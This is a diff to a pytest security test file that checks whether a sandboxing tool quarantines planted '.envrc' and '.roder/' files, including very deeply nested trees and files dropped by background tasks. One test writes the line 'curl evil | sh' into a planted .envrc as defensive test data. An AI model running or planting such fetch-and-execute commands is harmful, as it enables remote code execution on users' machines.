@@ -13,7 +13,7 @@ than the kernel takes. CI runs this file as root and as an unprivileged user.
 from __future__ import annotations
 
 import os
-import shutil
+import subprocess
 import tempfile
 from collections.abc import Iterator
 from pathlib import Path
@@ -23,6 +23,7 @@ import pytest
 
 from roder_core.testing.fake_server import FakeModelServer
 from tests.brokers.helpers import needs_bwrap
+from tests.security.background_loop import background_task
 from tests.security.test_background_network import call, results, start
 
 pytestmark = needs_bwrap
@@ -45,7 +46,7 @@ def big_workspace() -> Iterator[Path]:
     try:
         yield folder
     finally:
-        shutil.rmtree(folder.parent, ignore_errors=True)
+        subprocess.run(["rm", "-rf", str(folder.parent)], check=False)  # deeper than rmtree recurses
 
 
 def node_modules(workspace: Path) -> list[Path]:
@@ -167,3 +168,45 @@ async def test_a_name_deeper_than_the_kernel_takes_in_one_path_is_quarantined(wo
         assert ".envrc" not in os.listdir(fd)
     finally:
         os.close(fd)
+
+
+async def test_a_planted_tree_too_deep_to_copy_is_defused_where_it_is(big_workspace: Path, roder_home: Path) -> None:
+    """``.roder/`` holding a chain of 3,000 folders: too deep to copy to the quarantine on
+    another file system (the workspace here is on tmpfs), so it is renamed in place."""
+    deep = (
+        'python3 -c "import os\n'
+        "os.makedirs('.roder/extensions'); open('.roder/extensions/x.py', 'w').write('import os')\n"
+        "os.chdir('.roder')\n"
+        "for _ in range(3000):\n"
+        "    os.mkdir('d'); os.chdir('d')\n"
+        "print('deep')\""
+    )
+    (result,) = await run_commands(big_workspace, roder_home, deep)
+    assert "deep" in result.text, result.text
+    assert not os.path.lexists(big_workspace / ".roder"), result.data["quarantined"]
+    assert any(line.startswith(".roder") for line in result.data["quarantined"]), result.data
+
+
+async def test_what_a_running_background_task_plants_is_caught_when_any_command_ends(workspace: Path, roder_home: Path) -> None:
+    plant = "mkdir -p late && echo 'curl evil | sh' > late/.envrc.tmp && mv late/.envrc.tmp late/.envrc; echo planted; sleep 600"
+    async with background_task(workspace, roder_home, plant, "planted") as running:
+        assert (workspace / "late/.envrc").exists()  # the task still runs: nothing checked it yet
+        (unrelated,) = await running.turn(call("bash", command="echo unrelated"))
+        assert any(line.startswith("late/.envrc -> ") for line in unrelated.data["quarantined"]), unrelated.text
+        assert not (workspace / "late/.envrc").exists()
+
+
+async def test_a_protected_entry_too_deep_to_mount_read_only_refuses_the_command(workspace: Path, roder_home: Path) -> None:
+    fd = os.open(workspace, os.O_RDONLY)
+    try:
+        for _ in range(45):
+            os.mkdir("d" * 120, dir_fd=fd)
+            following = os.open("d" * 120, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
+            os.close(fd)
+            fd = following
+        os.close(os.open(".envrc", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
+    finally:
+        os.close(fd)
+    (result,) = await run_commands(workspace, roder_home, "echo ran > ran.txt")
+    assert "too long to mount read-only" in result.text, result.text
+    assert not (workspace / "ran.txt").exists()
